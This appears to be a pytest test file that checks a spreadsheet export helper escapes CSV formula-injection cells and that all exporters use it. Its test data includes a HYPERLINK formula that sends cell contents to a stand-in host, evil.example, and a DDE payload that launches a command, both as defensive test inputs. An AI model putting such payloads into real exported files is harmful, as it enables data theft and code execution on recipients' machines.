"""Exports escape cells a spreadsheet would run as formulas (OWASP CSV injection)."""

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest

from arrears.core.spreadsheet import csv_writer, safe_cell

PACKAGE = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("https://evil.example/?"&A1)', '\'=HYPERLINK("https://evil.example/?"&A1)'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Jane Doe", "Jane Doe"),
        ("", ""),
        (Decimal("-12.50"), Decimal("-12.50")),  # a negative amount is a number, not a formula
        (-3, -3),
        (None, None),
    ],
)
def test_a_cell_that_would_be_a_formula_is_written_as_text(value, written):
    assert safe_cell(value) == written


def test_the_csv_writer_escapes_every_cell():
    out = io.StringIO()

    csv_writer(out).writerow(["=1+1", "ok", Decimal("-1.00")])

    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'=1+1", "ok", "-1.00"]


def test_no_module_writes_csv_or_xlsx_around_the_helper():
    """Every exporter goes through arrears.core.spreadsheet: a new `csv.writer` or openpyxl workbook
    written elsewhere fails here, with its file named."""
    direct = re.compile(r"csv\.(writer|DictWriter)\(|openpyxl\.Workbook\(|Workbook\(\)")
    offenders = [
        str(path.relative_to(PACKAGE))
        for path in PACKAGE.rglob("*.py")
        if "tests" not in path.parts
        and path.name != "spreadsheet.py"
        and direct.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == [], f"write CSV/XLSX through arrears.core.spreadsheet (csv_writer): {offenders}"
